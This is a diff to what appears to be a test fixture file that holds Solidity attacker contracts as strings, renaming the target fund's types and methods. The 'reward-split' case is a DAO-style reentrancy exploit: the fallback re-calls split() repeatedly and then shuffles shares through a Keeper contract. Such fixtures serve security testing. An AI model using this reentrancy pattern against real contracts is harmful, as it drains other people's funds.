@@ -71,17 +71,17 @@ contract Attacker {
     }
 }`,
 		"tc/reward-split": `pragma solidity 0.4.26;
-import "./Partnership.sol";
+import "./InvestmentFund.sol";
 contract World { function target() public returns (address); }
 contract Keeper {
-    function back(Partnership fund, address to) public { fund.moveUnits(to, fund.units(address(this))); }
+    function back(InvestmentFund fund, address to) public { fund.transferShares(to, fund.shares(address(this))); }
 }
 contract Attacker {
-    Partnership fund;
+    InvestmentFund fund;
     Keeper keeper = new Keeper();
     uint depth;
     function step(uint number, address w) public returns (uint) {
-        fund = Partnership(World(w).target());
+        fund = InvestmentFund(World(w).target());
         require(number > 0 || address(this).balance == 0, "its capital was spent on units");
         if (number > 0) keeper.back(fund, address(this));
         depth = 0;
@@ -89,9 +89,9 @@ contract Attacker {
         return number < 3 ? 60 : 0;
     }
     function () public payable {
-        if (msg.sender != address(fund.rewardPurse())) return;
+        if (msg.sender != address(fund.rewardAccount())) return;
         if (depth++ < 29) address(fund).call(abi.encodeWithSignature("split(address)", address(this)));
-        else fund.moveUnits(address(keeper), fund.units(address(this)));
+        else fund.transferShares(address(keeper), fund.shares(address(this)));
     }
 }`,
 	} {
